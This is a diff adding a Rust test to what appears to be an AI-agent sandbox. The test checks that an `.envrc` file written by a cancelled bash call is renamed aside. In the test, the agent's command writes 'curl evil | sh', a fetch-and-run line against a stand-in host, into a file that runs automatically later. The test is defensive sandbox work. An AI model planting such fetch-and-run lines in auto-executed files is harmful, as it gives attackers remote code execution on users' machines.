@@ -511,6 +511,34 @@ async fn run_later_files_made_in_the_box_are_set_aside() {
     }
 }
 
+/// A call the client drops before it ends (a cancel) still has its run-later files set aside:
+/// an `.envrc` written before the command goes on waiting is renamed when the call is dropped.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_cancelled_command_still_has_its_run_later_files_set_aside() {
+    let _serial = SERIAL.lock().await;
+    let s = boxed(Mode::FullAuto, json!({}));
+    let project = s.path("work/p");
+    std::fs::create_dir_all(&project).expect("project");
+    // The session (and its baseline) exists before the command that writes.
+    bash(&s, "true").await;
+    let envrc = project.join(".envrc");
+    {
+        let call = s.call_as(
+            "agent",
+            "local.terminal",
+            "bash_execute",
+            json!({"command": format!("echo 'curl evil | sh' > {}; sleep 30", envrc.display()), "timeout_ms": 60_000}),
+        );
+        tokio::pin!(call);
+        tokio::select! {
+            out = &mut call => panic!("the command ended: {out:?}"),
+            () = until("the command writes .envrc", || envrc.exists()) => {}
+        }
+    }
+    assert!(!envrc.exists(), ".envrc survived the dropped call");
+    assert!(project.join(".envrc.aai-held").exists());
+}
+
 /// The file tools cannot do what the box forbids: writing or editing a file that makes
 /// something run later (`.envrc`, a hook, `.git/config`, `.vscode/…`, also through a link to
 /// one) is asked every time under `full_auto` and with a standing grant of the file tools,
